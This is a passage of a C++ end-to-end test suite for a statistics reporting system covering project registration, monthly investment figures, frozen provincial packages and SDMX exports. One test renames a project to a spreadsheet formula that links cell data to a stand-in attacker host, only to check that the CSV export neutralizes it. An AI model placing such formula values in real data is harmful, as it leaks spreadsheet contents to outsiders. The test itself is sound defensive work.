// End-to-end through HTTP: the 入库 workflow by the right roles, 先入库,后有数 across registry and stats, the city
// report, and the change feed surviving restarts of either side.

#include <httplib.h>
#include <unistd.h>

#include <algorithm>
#include <chrono>
#include <cstdio>
#include <filesystem>
#include <fstream>
#include <iterator>
#include <pqxx/pqxx>
#include <thread>

#include "absl/strings/escaping.h"
#include "absl/strings/str_cat.h"
#include "common/client.h"
#include "common/format.h"
#include "common/status.h"
#include "common/xlsx.h"
#include "gtest/gtest.h"
#include "nlohmann/json.hpp"
#include "saima/stats/v1/stats.grpc.pb.h"
#include "services/stats/package_digest.h"
#include "tests/e2e/http_fixture.h"
#include "tests/e2e/system.h"
#include "tests/pg_harness.h"
#include "tests/unzip.h"

namespace saima::testing {
namespace {

// The file the gateway reads the public SDMX key from (empty until the test issues one).
std::string PublicKeyFile() { return absl::StrCat("/tmp/saima-sdmx-public-", getpid(), ".key"); }

class StatsEndToEndTest : public HttpSystemTest {
 protected:
  static void SetUpTestSuite() { SetUpSystem({"--sdmx_public_key_file=" + PublicKeyFile()}); }
  static void TearDownTestSuite() {
    std::remove(PublicKeyFile().c_str());
    HttpSystemTest::TearDownTestSuite();
  }
};

TEST_F(StatsEndToEndTest, RukuByTheRightRolesThenFiguresThenTheCityReport) {
  const std::string id = CreateProject("2023-331181-04-01-000501", 200'000'000);
  // 先入库,后有数: a figure before 入库 is refused.
  auto [early, early_body] = Post("unit", "/v1/monthly-reports", Report(id, "2023-02", 3'000'000, 3'000'000));
  EXPECT_EQ(early, 409);
  EXPECT_NE(early_body["message"].get<std::string>().find("先入库"), std::string::npos);

  // 应统尽统: started in January, not 入库 by March: 红.
  auto [missing_status, missing] = Get("leader", "/v1/ruku/missing?asOfDate=2023-03-10&unitId=331181001");
  ASSERT_EQ(missing_status, 200) << missing.dump();
  ASSERT_EQ(missing["entries"].size(), 1u);
  EXPECT_EQ(missing["entries"][0]["light"], "MISSING_RUKU_LIGHT_RED");
  EXPECT_EQ(missing["redByUnit"]["331181001"], 1);
  EXPECT_EQ(Get("leader", "/v1/ruku/missing?asOfDate=2023-02-10").second["entries"][0]["light"],
            "MISSING_RUKU_LIGHT_YELLOW");

  auto [created, app] = Post("unit", "/v1/ruku/applications", {{"projectId", id}, {"reviewingDepartmentId", "D01"}});
  ASSERT_EQ(created, 200) << app.dump();
  const std::string app_id = app["application"]["applicationId"];
  const std::string path = "/v1/ruku/applications/" + app_id + ":transition";
  // Wrong roles get 403 and change nothing.
  EXPECT_EQ(Post("other_unit", path, {{"toState", "RUKU_STATE_SUBMITTED"}}).first, 403);
  EXPECT_EQ(Post("leader", path, {{"toState", "RUKU_STATE_SUBMITTED"}}).first, 403);
  EXPECT_EQ(Get("leader", "/v1/ruku/applications/" + app_id).second["application"]["state"], "RUKU_STATE_DRAFT");
  auto [no_materials, refusal] = Post("unit", path, {{"toState", "RUKU_STATE_SUBMITTED"}});
  EXPECT_EQ(no_materials, 409);
  EXPECT_NE(refusal["message"].get<std::string>().find("现场照片"), std::string::npos) << refusal.dump();
  FileMaterials(id);
  EXPECT_EQ(Get("leader", "/v1/projects/" + id + "/documents").second["documents"].size(), 6u);
  ASSERT_EQ(Post("unit", path, {{"toState", "RUKU_STATE_SUBMITTED"}}).first, 200);
  EXPECT_EQ(Post("stats", path, {{"toState", "RUKU_STATE_DEPT_REVIEWED"}}).first, 403);
  EXPECT_EQ(Post("dept", path, {{"toState", "RUKU_STATE_RETURNED"}}).first, 400);  // a reason is required
  ASSERT_EQ(Post("dept", path, {{"toState", "RUKU_STATE_DEPT_REVIEWED"}}).first, 200);
  ASSERT_EQ(Post("stats", path, {{"toState", "RUKU_STATE_STATS_REVIEW"}}).first, 200);
  EXPECT_EQ(Post("stats", path, {{"toState", "RUKU_STATE_APPROVED"}}).first, 400);  // 入库日期 required
  EXPECT_EQ(Post("stats", path, {{"toState", "RUKU_STATE_APPROVED"}, {"effectiveDate", "2023-01-15"}}).first,
            409);  // 2亿: the province first
  ASSERT_EQ(Post("stats", path, {{"toState", "RUKU_STATE_PROVINCE_REVIEW"}}).first, 200);
  auto [approved, final_app] =
      Post("stats", path, {{"toState", "RUKU_STATE_APPROVED"}, {"effectiveDate", "2023-01-15"}});
  ASSERT_EQ(approved, 200);
  EXPECT_EQ(final_app["application"]["history"].size(), 5u);

  EXPECT_EQ(SubmitWhenAccepted(Report(id, "2023-02", 3'000'000, 3'000'000)), 200);
  ASSERT_EQ(Post("unit", "/v1/monthly-reports", Report(id, "2023-03", 2'000'000, 5'000'000)).first, 200);
  // A month that does not chain is refused, naming the field.
  auto [bad, bad_body] = Post("unit", "/v1/monthly-reports", Report(id, "2023-04", 1'000'000, 9'000'000));
  EXPECT_EQ(bad, 400);
  EXPECT_EQ(bad_body["details"][0]["fieldViolations"][0]["field"], "report.ytd_yuan");
  ASSERT_EQ(Send("GET", "admin", "/v1/healthz").first, 404);  // unknown route, not a crash

  httplib::Client client("127.0.0.1", system_->http_port());
  httplib::Headers headers = {{"Authorization", "Bearer " + system_->token("stats")}};
  json plan = {{"projectId", id}, {"year", 2023}, {"plannedYuan", "20000000"}};
  auto put = client.Put("/v1/plans", headers, plan.dump(), "application/json");
  ASSERT_TRUE(put);
  ASSERT_EQ(put->status, 200) << put->body;

  auto [ok, report] = Get("leader", "/v1/reports/city?period=2023-03");
  ASSERT_EQ(ok, 200) << report.dump();
  const json& indicators = report["report"]["indicators"];
  EXPECT_EQ(indicators["total"]["ytdYuan"], "5000000");
  EXPECT_EQ(indicators["completionRate"]["numerator"], "5000000");
  EXPECT_EQ(indicators["completionRate"]["denominator"], "20000000");
  EXPECT_TRUE(indicators["provisional"].get<bool>());
  // 25% against a time progress of 25%: 正常.
  EXPECT_EQ(report["report"]["keyProjects"]["statuses"][0]["status"], "PROGRESS_STATUS_NORMAL");

  auto [locked, lock] = Post("stats", "/v1/periods/2023-03:lock", json::object());
  ASSERT_EQ(locked, 200) << lock.dump();
  const std::string frozen_sha = lock["packageSha256"];
  ASSERT_EQ(frozen_sha.size(), 64u) << lock.dump();
  // What was reported stays the same bytes: renaming the project (to a formula, which the CSV neutralizes) and
  // its unit after the lock changes nothing in the package.
  auto package_bytes = [&](int version) {
    httplib::Client http("127.0.0.1", system_->http_port());
    auto res = http.Get(absl::StrCat("/v1/reports/provincial?period=2023-03&format=csv&version=", version).c_str(),
                        {{"Authorization", "Bearer " + system_->token("stats")}});
    return res && res->status == 200 ? res->body : std::string();
  };
  const std::string before_rename = package_bytes(1);
  ASSERT_FALSE(before_rename.empty());
  const json now = Get("admin", "/v1/projects/" + id).second["project"];
  ASSERT_EQ(Send("PATCH", "admin", "/v1/projects/" + id,
                 {{"name", "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"点此\")"}, {"revision", now["revision"]}})
                .first,
            200);
  EXPECT_EQ(package_bytes(1), before_rename) << "the locked period's package changed after a rename";
  EXPECT_EQ(package_bytes(0), before_rename) << "no correction yet: the newest is the frozen one";
  EXPECT_NE(Unzip(before_rename, "manifest.json").find(frozen_sha), std::string::npos)
      << "the manifest names the SHA-256 printed at the lock";
  EXPECT_NE(Unzip(before_rename, "206-1.csv").find("国镜药业"), std::string::npos);
  // Locking again returns the first freeze.
  EXPECT_EQ(Post("stats", "/v1/periods/2023-03:lock", json::object()).second["packageSha256"], frozen_sha);

  EXPECT_EQ(Post("unit", "/v1/monthly-reports", Report(id, "2023-03", 2'500'000, 5'500'000)).first, 409);
  auto [corrected, corrected_body] =
      Post("stats", "/v1/monthly-reports:correct",
           {{"report", Report(id, "2023-03", 2'500'000, 5'500'000)}, {"reason", "核定时补录设备款"}});
  ASSERT_EQ(corrected, 200) << corrected_body.dump();
  // A correction is a new version of the package (with the renamed project now); version 1 stays as it was.
  EXPECT_EQ(corrected_body["packageVersion"], 2) << corrected_body.dump();
  EXPECT_NE(corrected_body["packageSha256"], frozen_sha);
  EXPECT_EQ(package_bytes(1), before_rename);
  EXPECT_NE(package_bytes(2), before_rename);
  EXPECT_EQ(package_bytes(2), package_bytes(0));
  // The regional report of the locked period, corrected figure included, by saimactl: the country by province, a
  // province by county, the county itself, each named; an unlocked period refused in Chinese.
  {
    auto [status, zhejiang] = Get("leader", "/v1/reports/regions?period=2023-03&region=33");
    ASSERT_EQ(status, 200) << zhejiang.dump();
    const std::string ytd = Wan(std::stoll(zhejiang["total"]["total"]["ytdYuan"].get<std::string>()));
    EXPECT_EQ(ytd, "550.0");
    const std::string leader = "SAIMA_TOKEN=" + system_->token("leader");
    auto [country_status, country] = Ctl(leader, "report regions --period=2023-03");
    EXPECT_EQ(country_status, 0) << country;
    EXPECT_NE(country.find("全国固定资产投资 (2023年1-3月, 统计局已锁定)"), std::string::npos) << country;
    EXPECT_NE(country.find("浙江省"), std::string::npos) << country;
    auto [province_status, province] = Ctl(leader, "report regions --period=2023-03 --region=33");
    EXPECT_EQ(province_status, 0) << province;
    EXPECT_NE(province.find("浙江省固定资产投资"), std::string::npos) << province;
    EXPECT_NE(province.find("龙泉市"), std::string::npos) << province;
    EXPECT_NE(province.find(ytd), std::string::npos) << province;
    auto [open_status, open] = Ctl(leader, "report regions --period=2023-04", /*with_stderr=*/true);
    EXPECT_NE(open_status, 0);
    EXPECT_NE(open.find("尚未锁定"), std::string::npos) << open;
    auto [bad_status, bad] = Ctl(leader, "report regions --period=2023-03 --region=3", /*with_stderr=*/true);
    EXPECT_NE(bad_status, 0);
    EXPECT_NE(bad.find("行政区划代码"), std::string::npos) << bad;

    // A county's package (what the province receives from each county): its projects only, reported by the
    // county, summed up to its own total, from the same frozen version; a county without projects has none.
    httplib::Client http("127.0.0.1", system_->http_port());
    httplib::Headers auth = {{"Authorization", "Bearer " + system_->token("stats")}};
    auto county = http.Get("/v1/reports/provincial?period=2023-03&format=csv&region=331181", auth);
    ASSERT_TRUE(county);
    ASSERT_EQ(county->status, 200) << county->body;
    EXPECT_NE(county->get_header_value("Content-Disposition").find("provincial-2023-03-331181.zip"), std::string::npos)
        << county->get_header_value("Content-Disposition");
    const json manifest = json::parse(Unzip(county->body, "manifest.json"));
    EXPECT_EQ(manifest["region"], "331181");
    EXPECT_EQ(manifest["version"], 2);
    EXPECT_EQ(manifest["snapshotSha256"], corrected_body["packageSha256"]);
    const std::string county_csv = Unzip(county->body, "206-1.csv");
    EXPECT_NE(county_csv.find("5500000"), std::string::npos) << county_csv;
    auto county_xlsx = http.Get("/v1/reports/provincial?period=2023-03&format=xlsx&region=331181", auth);
    ASSERT_TRUE(county_xlsx);
    ASSERT_EQ(county_xlsx->status, 200) << county_xlsx->body;
    const std::string county_path = system_->log_dir() + "/provincial-331181.xlsx";
    std::ofstream(county_path, std::ios::binary) << county_xlsx->body;
    auto county_sheet = ReadXlsx(county_path);
    ASSERT_TRUE(county_sheet.ok()) << county_sheet.status();
    ASSERT_GE(county_sheet->size(), 2u);
    EXPECT_NE((*county_sheet)[1][0].find("填报单位：龙泉市统计局"), std::string::npos) << (*county_sheet)[1][0];
    EXPECT_NE(Unzip(county->body, "汇总.csv").find("固定资产投资,5500000,"), std::string::npos)
        << Unzip(county->body, "汇总.csv");
    auto elsewhere = http.Get("/v1/reports/provincial?period=2023-03&format=csv&region=110101", auth);
    ASSERT_TRUE(elsewhere);
    ASSERT_EQ(elsewhere->status, 200) << elsewhere->body;
    EXPECT_EQ(Unzip(elsewhere->body, "206-1.csv").find("5500000"), std::string::npos);
    EXPECT_NE(Unzip(elsewhere->body, "manifest.json").find("\"rows\": 0"), std::string::npos);
    auto [refused_status, refused] = Get("stats", "/v1/reports/provincial?period=2023-03&region=3311");
    EXPECT_EQ(refused_status, 400) << refused.dump();
    EXPECT_NE(refused.dump().find("region"), std::string::npos) << refused.dump();
    const std::string stats_token = "SAIMA_TOKEN=" + system_->token("stats");
    auto [package_status, package] =
        Ctl(stats_token, "report provincial --period=2023-03 --region=331181 --out=" + system_->log_dir());
    EXPECT_EQ(package_status, 0) << package;
    EXPECT_NE(package.find("provincial-2023-03-331181.zip"), std::string::npos) << package;
    EXPECT_NE(package.find("331181 汇总 5500000 元 (一致)"), std::string::npos) << package;
    // Received row by row (--stream, for a package above the gateway's rows): the same ZIP, byte for byte, as the
    // gateway's file, for the county and for the whole package; nothing left beside it.
    auto file_bytes = [](const std::string& path) {
      std::ifstream in(path, std::ios::binary);
      return std::string((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
    };
    const std::string streamed_dir = system_->log_dir() + "/streamed";
    std::filesystem::create_directories(streamed_dir);
    auto [county_streamed_status, county_streamed] =
        Ctl(stats_token, "report provincial --period=2023-03 --region=331181 --stream --out=" + streamed_dir);
    EXPECT_EQ(county_streamed_status, 0) << county_streamed;
    EXPECT_NE(county_streamed.find("331181 汇总 5500000 元 (一致)"), std::string::npos) << county_streamed;
    EXPECT_EQ(file_bytes(streamed_dir + "/provincial-2023-03-331181.zip"), county->body);
    auto [whole_streamed_status, whole_streamed] =
        Ctl(stats_token, "report provincial --period=2023-03 --stream --out=" + streamed_dir);
    EXPECT_EQ(whole_streamed_status, 0) << whole_streamed;
    EXPECT_NE(whole_streamed.find("(一致)"), std::string::npos) << whole_streamed;
    EXPECT_EQ(file_bytes(streamed_dir + "/provincial-2023-03.zip"), package_bytes(0));
    EXPECT_EQ(std::distance(std::filesystem::directory_iterator(streamed_dir), std::filesystem::directory_iterator()),
              2);
  }
  // The whole package streamed through the gateway's gRPC edge, as a partner system takes a country's: the head,
  // then the rows, hashed as they pass to the version's SHA-256 without holding them.
  {
    saima::stats::v1::StatsService::Stub stub(MakePublicChannel(system_->gateway_grpc(), ""));
    auto stream = [&](const std::string& period, std::vector<saima::stats::v1::GetProvincialPackageResponse>* parts) {
      grpc::ClientContext context;
      context.AddMetadata("authorization", "Bearer " + system_->token("stats"));
      context.set_deadline(std::chrono::system_clock::now() + std::chrono::seconds(20));
      saima::stats::v1::StreamProvincialPackageRequest q;
      q.set_period(period);
      auto reader = stub.StreamProvincialPackage(&context, q);
      for (saima::stats::v1::StreamProvincialPackageResponse m; reader->Read(&m);) parts->push_back(m.part());
      return reader->Finish();
    };
    std::vector<saima::stats::v1::GetProvincialPackageResponse> messages;
    const grpc::Status streamed = stream("2023-03", &messages);
    ASSERT_TRUE(streamed.ok()) << streamed.error_message();
    ASSERT_GE(messages.size(), 2u);
    const auto& head = messages[0];
    EXPECT_EQ(head.rows_size(), 0);
    EXPECT_EQ(head.version(), 2);
    EXPECT_EQ(head.snapshot_sha256(), corrected_body["packageSha256"]);
    saima::stats::PackageDigest digest(head.period());
    int rows = 0;
    for (size_t i = 1; i < messages.size(); ++i) {
      for (const auto& row : messages[i].rows()) {
        digest.AddRow(saima::stats::DeterministicBytes(row));
        ++rows;
      }
    }
    EXPECT_EQ(rows, head.city().project_count());
    EXPECT_EQ(digest.Sha256(head.city(), head.snapshot_time()), head.snapshot_sha256());
    messages.clear();
    const grpc::Status open = stream("2023-04", &messages);
    EXPECT_EQ(open.error_code(), grpc::StatusCode::FAILED_PRECONDITION);
    EXPECT_NE(saima::ChineseMessageOf(saima::FromGrpcStatus(open)).find("尚未锁定"), std::string::npos)
        << open.error_message();
    EXPECT_TRUE(messages.empty());
  }
  // The formula reached the province as text, never as a formula.
  const std::string renamed_csv = Unzip(package_bytes(2), "206-1.csv");
  EXPECT_NE(renamed_csv.find("\"'=HYPERLINK("), std::string::npos) << renamed_csv;
  EXPECT_EQ(renamed_csv.find(",=HYPERLINK"), std::string::npos) << renamed_csv;
  // The provincial package of the locked period: its forms add up to the city report.
  {
    httplib::Client http("127.0.0.1", system_->http_port());
    httplib::Headers auth = {{"Authorization", "Bearer " + system_->token("stats")}};
    auto xlsx = http.Get("/v1/reports/provincial?period=2023-03&format=xlsx", auth);
    ASSERT_TRUE(xlsx);
    ASSERT_EQ(xlsx->status, 200) << xlsx->body;
    EXPECT_NE(xlsx->get_header_value("Content-Type").find("spreadsheetml"), std::string::npos);
    const std::string path = system_->log_dir() + "/provincial.xlsx";
    std::ofstream(path, std::ios::binary) << xlsx->body;
    auto sheet = ReadXlsx(path);  // the first sheet: 206-1
    ASSERT_TRUE(sheet.ok()) << sheet.status();
    ASSERT_EQ(sheet->size(), 4u);  // the title block (表名, the notes), the header and the one project of 2亿
    EXPECT_EQ((*sheet)[0][0], "5000万元及以上固定资产投资项目情况(206-1表)");
    EXPECT_EQ((*sheet)[1][0].rfind("报告期：2023年3月", 0), 0u) << (*sheet)[1][0];
    EXPECT_EQ((*sheet)[2][7], "自年初累计完成投资(元)");
    EXPECT_EQ((*sheet)[3][7], "5500000");
    auto zip = http.Get("/v1/reports/provincial?period=2023-03&format=csv", auth);
    ASSERT_TRUE(zip);
    EXPECT_EQ(zip->status, 200);
    EXPECT_EQ(zip->body.substr(0, 2), "PK");
    EXPECT_EQ(Get("stats", "/v1/reports/provincial?period=2023-04").first, 409);  // not locked
    EXPECT_EQ(Get("stats", "/v1/reports/provincial?period=2023-03&format=pdf").first, 400);

    // SDMX-CSV 2.0 per SDMX REST v2 (issue 19).
    const std::string flow = "/sdmx/data/dataflow/SAIMA/FAI/1.0.0/";
    auto csv = http.Get(flow + "M.331181.FAI_YTD?c%5BTIME_PERIOD%5D=ge:2023-03+le:2023-03", auth);
    ASSERT_TRUE(csv);
    ASSERT_EQ(csv->status, 200) << csv->body;
    EXPECT_EQ(csv->body,
              "STRUCTURE,STRUCTURE_ID,ACTION,FREQ,REF_AREA,INDICATOR,TIME_PERIOD,OBS_VALUE,UNIT_MEASURE,UNIT_MULT,"
              "OBS_STATUS\r\ndataflow,SAIMA:FAI(1.0.0),I,M,331181,FAI_YTD,2023-03,5500000,CNY,0,A\r\n");
    // Without a time filter: the periods that have data (here 2023-02 and 2023-03), not zeros up to today.
    auto untimed = http.Get(flow + "M.331181.FAI_YTD", auth);
    ASSERT_TRUE(untimed);
    ASSERT_EQ(untimed->status, 200) << untimed->body;
    EXPECT_NE(untimed->body.find(",2023-03,5500000,"), std::string::npos) << untimed->body;
    EXPECT_EQ(untimed->body.find(",0,CNY"), std::string::npos) << untimed->body;
    // lastNObservations, the comma OR of keys, c[] on a dimension: one row each way.
    auto last =
        http.Get(flow + "M.331181.FAI_YTD,M.331181.FAI_PRIVATE_YTD?lastNObservations=1&c%5BINDICATOR%5D=FAI_YTD", auth);
    ASSERT_TRUE(last);
    EXPECT_EQ(std::count(last->body.begin(), last->body.end(), '\n'), 2) << last->body;
    EXPECT_NE(last->body.find(",FAI_YTD,2023-03,"), std::string::npos) << last->body;
    for (const std::string& empty :
         {flow + "*?c%5BTIME_PERIOD%5D=ge:2019-02+le:2019-03", flow + "*?c%5BTIME_PERIOD%5D=eq:2021-05",
          // Months after the last figure have counted projects but no data: no row.
          flow + "*?c%5BTIME_PERIOD%5D=ge:2023-10+le:2023-12", flow + "*?c%5BTIME_PERIOD%5D=gt:2023-03+lt:2023-10"}) {
      auto res = http.Get(empty, auth);
      ASSERT_TRUE(res);
      EXPECT_EQ(res->status, 204) << empty << ": " << res->body;
    }
    auto span = http.Get(flow + "M.331181.FAI_YTD?c%5BTIME_PERIOD%5D=ge:2023-03+le:2023-12", auth);
    ASSERT_TRUE(span);
    EXPECT_EQ(span->body.find(",0,CNY"), std::string::npos) << span->body;
    for (const char* accept : {"application/vnd.sdmx.genericdata+xml", "application/vnd.sdmx.data+csv;version=1.0.0"}) {
      httplib::Headers h = auth;
      h.emplace("Accept", accept);
      auto refused = http.Get(flow + "*", h);
      ASSERT_TRUE(refused);
      EXPECT_EQ(refused->status, 406) << accept;
    }
    EXPECT_EQ(Get("leader", "/sdmx/data/dataflow/NBS/FAI/1.0.0/*").first, 404);
    EXPECT_EQ(Get("leader", "/sdmx/data/dataflow/SAIMA/FAI/2.0.0/*").first, 404);
    EXPECT_EQ(Get("leader", flow + "*?c%5BCOLOUR%5D=red").first, 400);

    // Without a token: refused until the city issues the public key, then only published periods.
    httplib::Headers none;
    auto anonymous = [&]() { return http.Get(flow + "M.331181.FAI_YTD?c%5BTIME_PERIOD%5D=eq:2023-03", none); };
    EXPECT_EQ(anonymous()->status, 401);
    auto [created, key] = Post("root", "/v1/api-keys", {{"name", "SDMX 公开"}, {"scopes", {"reports:read"}}});
    ASSERT_EQ(created, 200) << key.dump();
    std::ofstream(PublicKeyFile()) << key["apiKey"].get<std::string>() << "\n";
    EXPECT_EQ(anonymous()->status, 204);                                                 // locked, not yet published
    EXPECT_EQ(Post("stats", "/v1/periods/2023-04:publish", json::object()).first, 409);  // not locked
    EXPECT_EQ(Post("leader", "/v1/periods/2023-03:publish", json::object()).first, 403);
    auto [published, publication] = Post("stats", "/v1/periods/2023-03:publish", json::object());
    ASSERT_EQ(published, 200) << publication.dump();
    auto released = anonymous();
    ASSERT_EQ(released->status, 200);
    EXPECT_NE(released->body.find(",2023-03,5500000,"), std::string::npos) << released->body;
    EXPECT_TRUE(Get("leader", "/v1/indicators?period=2023-03").second["published"].get<bool>());
    // updatedAfter: the period's newest figure version is older than now, newer than 2020.
    EXPECT_EQ(http.Get(flow + "*?c%5BTIME_PERIOD%5D=eq:2023-03&updatedAfter=2020-01-01T00:00:00Z", auth)->status, 200);
    EXPECT_EQ(http.Get(flow + "*?c%5BTIME_PERIOD%5D=eq:2023-03&updatedAfter=2099-01-01T00:00:00Z", auth)->status, 204);
  }
  auto [listed, versions] = Get("leader", "/v1/monthly-reports/" + id + "/2023-03/versions");
  ASSERT_EQ(listed, 200);
  ASSERT_EQ(versions["versions"].size(), 2u);
  EXPECT_EQ(versions["versions"][0]["ytdYuan"], "5000000");
  EXPECT_EQ(versions["versions"][1]["reason"], "核定时补录设备款");
  EXPECT_EQ(Get("leader", "/v1/indicators?period=2023-03").second["total"]["ytdYuan"], "5500000");

  // The project's official figures per period, and the project in OC4IDS with them as financial progress.
  auto [figures_status, figures] = Get("leader", "/v1/projects/" + id + "/figures?fromPeriod=2023-02");
  ASSERT_EQ(figures_status, 200) << figures.dump();
  ASSERT_EQ(figures["reports"].size(), 2u);
  EXPECT_EQ(figures["reports"][1]["sinceStartYuan"], "5500000");  // the correction, not the first report
  EXPECT_EQ(Get("leader", "/v1/projects/" + id + "/figures?fromPeriod=2023-13").first, 400);
  auto [oc4ids_status, oc4ids] = Get("leader", "/v1/projects/" + id + "/oc4ids");
  ASSERT_EQ(oc4ids_status, 200) << oc4ids.dump();
  EXPECT_EQ(oc4ids["id"], "oc4ids-saima0-" + id);
  EXPECT_EQ(oc4ids["status"], "implementation");
  EXPECT_EQ(oc4ids["budget"]["amount"]["amount"], 200000000);
  EXPECT_EQ(oc4ids["publicAuthority"]["id"], "331181001");
  EXPECT_EQ(oc4ids["documents"].size(), 6u);
  const json& progress = oc4ids["metrics"][0]["observations"];
  ASSERT_EQ(progress.size(), 2u);
  EXPECT_EQ(progress[0]["measure"], "1.50");  // 300万 of 2亿
  EXPECT_EQ(progress[1]["measure"], "2.75");  // 550万 of 2亿
  // Unit staff read their own unit's projects only, in every view.
  for (const std::string& path :
       {"/v1/projects/" + id, "/v1/projects/" + id + "/oc4ids", "/v1/projects/" + id + "/history",
        "/v1/projects/" + id + "/documents", "/v1/projects/" + id + "/milestones",
        std::string("/v1/projects?filter.unitId=331181001")}) {
    EXPECT_EQ(Get("other_unit", path).first, 403) << path;
  }
  EXPECT_EQ(Get("unit", "/v1/projects/" + id).first, 200);
  const json own_projects = Get("other_unit", "/v1/projects").second;
  for (const auto& p : own_projects["projects"]) EXPECT_EQ(p["unitId"], "331181100");
}

// The web application's upload of the month's figures: the file as officials keep it; every refused row comes back
// with its line, column and reason, and one refused row imports nothing until it is fixed or the valid rows are
// imported on purpose.
TEST_F(StatsEndToEndTest, MonthlyFiguresUploadedAsAFileShowEveryRefusedRow) {
  const std::string first = ReportingKeyProject("2023-331181-04-01-300001", "上传项目一");
  const std::string second = ReportingKeyProject("2023-331181-04-01-300002", "上传项目二");
  ASSERT_FALSE(first.empty());
  ASSERT_FALSE(second.empty());
  const std::string header =
      "项目代码,报告期,本月完成投资(元),自年初累计(元),建筑工程(元),安装工程(元),设备工器具购置(元),其他费用(元),"
      "自开始建设累计(元)\n";
  auto upload = [&](const std::string& csv, bool valid_rows) {
    std::string content;
    absl::Base64Escape(csv, &content);
    return Post("unit", "/v1/monthly-reports:import",
                {{"file", {{"fileName", "2月月报.csv"}, {"contentType", "text/csv"}, {"content", content}}},
                 {"importValidRows", valid_rows}});
  };
  // A period no other test of the suite locks. Line 2 is fine; line 3's parts do not add up to the year-to-date;
  // line 4 names no project of the unit.
  const std::string bad = header + "2023-331181-04-01-300001,2024-02,500000,500000,500000,0,0,0,1500000\n" +
                          "2023-331181-04-01-300002,2024-02,500000,500000,400000,0,0,0,1500000\n" +
                          "2023-331181-04-01-399999,2024-02,1,1,1,0,0,0,1\n";
  auto [status, body] = upload(bad, false);
  ASSERT_EQ(status, 200) << body.dump();
  EXPECT_EQ(body["rowsReceived"], "3");
  EXPECT_EQ(body["rowsImported"], "0");
  ASSERT_EQ(body["errors"].size(), 2u) << body.dump();
  EXPECT_EQ(body["errors"][0]["line"], "3");
  EXPECT_EQ(body["errors"][0]["column"], "自年初累计(元)") << body.dump();
  EXPECT_EQ(body["errors"][1]["line"], "4");
  EXPECT_EQ(body["errors"][1]["column"], "项目代码");
  EXPECT_NE(body["errors"][1]["reason"].get<std::string>().find("未在项目库中登记"), std::string::npos);
  EXPECT_EQ(Get("unit", "/v1/monthly-reports/" + first + "/2024-02").first, 404) << "nothing was imported";
  // Fixed: both rows in.
  const std::string fixed = header + "2023-331181-04-01-300001,2024-02,500000,500000,500000,0,0,0,1500000\n" +
                            "2023-331181-04-01-300002,2024-02,500000,500000,500000,0,0,0,1500000\n";
  auto [ok, imported] = upload(fixed, false);
  ASSERT_EQ(ok, 200) << imported.dump();
  EXPECT_EQ(imported["rowsImported"], "2") << imported.dump();
  EXPECT_EQ(Get("unit", "/v1/monthly-reports/" + second + "/2024-02").second["report"]["ytdYuan"], "500000");
  // Not a table: a precise 400, naming the file.
  auto [refused, why] =
      Post("unit", "/v1/monthly-reports:import",
           {{"file", {{"fileName", "月报.pdf"}, {"contentType", "application/pdf"}, {"content", "JVBERg=="}}}});
  EXPECT_EQ(refused, 400);
  EXPECT_EQ(why["details"][0]["fieldViolations"][0]["field"], "file.file_name") << why.dump();
  // A leader may not import.
  EXPECT_EQ(
      Post("leader", "/v1/monthly-reports:import", {{"file", {{"fileName", "a.csv"}, {"content", "YQ=="}}}}).first,
      403);
}

TEST_F(StatsEndToEndTest, ChangeFeedResumesAfterEitherSideRestarts) {
  // Stats down while a project enters the database: on restart it resumes from its stored revision.
  system_->process("stats").Kill();
  const std::string first = CreateProject("2023-331181-04-01-000502", 200'000'000);
  Approve(first, "2023-01-20");
  system_->process("stats").Start();
  EXPECT_EQ(SubmitWhenAccepted(Report(first, "2023-02", 1'000'000, 1'000'000)), 200);

  // Registry restarted: the follower reconnects by itself.
  system_->process("registry").Kill();
  system_->process("registry").Start();
  ASSERT_TRUE(system_->WaitHealthy(20));
  const std::string second = CreateProject("2023-331181-04-01-000503", 200'000'000);
  Approve(second, "2023-01-20");
  EXPECT_EQ(SubmitWhenAccepted(Report(second, "2023-02", 1'000'000, 1'000'000)), 200);

  // Every change applied exactly once: stats' position is the registry's last revision, and its copy of each
  // project matches the registry's.
  bool caught_up = false;
  for (int i = 0; i < 50 && !caught_up; ++i) {
    caught_up =
        Scalar("SELECT revision FROM stats.feed_position") == Scalar("SELECT value FROM registry.revision_counter");
    if (!caught_up) std::this_thread::sleep_for(std::chrono::milliseconds(100));
  }
  EXPECT_TRUE(caught_up);
  EXPECT_EQ(Scalar("SELECT count(*) FROM stats.project_dims d JOIN registry.projects p USING (project_id) "
                   "WHERE d.ruku_state <> p.ruku_state OR d.revision <> p.revision"),
            0);
  EXPECT_EQ(Scalar("SELECT count(*) FROM stats.project_dims"), Scalar("SELECT count(*) FROM registry.projects"));
}

TEST_F(StatsEndToEndTest, ContestFromNominationToFrozenResults) {
  // A started, approved project of 331181001 with a plan and a June figure.
  const std::string id = CreateProject("2023-331181-04-01-000504", 200'000'000);
  Approve(id, "2023-01-20");
  httplib::Client client("127.0.0.1", system_->http_port());
  httplib::Headers stats_auth = {{"Authorization", "Bearer " + system_->token("stats")}};
  json plan = {{"projectId", id}, {"year", 2023}, {"plannedYuan", "40000000"}};
  ASSERT_EQ(SubmitWhenAccepted(Report(id, "2023-06", 8'000'000, 8'000'000)), 200);  // stats has followed the feed
  auto put = client.Put("/v1/plans", stats_auth, plan.dump(), "application/json");
  ASSERT_EQ(put->status, 200) << put->body;

  json campaign = {
      {"year", 2023},
      {"name", "2023年度项目建设互看互学·互比互评"},
      {"figuresPeriod", "2023-06"},
      {"eligibleSince", "2022-06-01"},
      {"pools",
       {{{"poolId", "all"}, {"name", "乡镇(街道)与市直单位"}, {"unitIds", {"331181001", "331181100", "D01"}}}}}};
  EXPECT_EQ(Post("unit", "/v1/campaigns", campaign).first, 403);
  json bad = campaign;
  bad["criteria"] = {{{"criterionId", "x"}, {"name", "唯一"}, {"weight", 90}, {"minScore", 0}, {"maxScore", 100}}};
  auto [refused, refusal] = Post("admin", "/v1/campaigns", bad);
  EXPECT_EQ(refused, 400);
  EXPECT_EQ(refusal["details"][0]["fieldViolations"][0]["field"], "campaign.criteria");
  auto [created, body] = Post("admin", "/v1/campaigns", campaign);
  ASSERT_EQ(created, 200) << body.dump();
  const std::string cid = body["campaign"]["campaignId"];
  EXPECT_EQ(body["campaign"]["method"], "AGGREGATION_METHOD_TRIMMED_MEAN");
  EXPECT_EQ(body["campaign"]["criteria"].size(), 4u);
  const std::string base = "/v1/campaigns/" + cid;
  for (const auto& [judge, name, unit] :
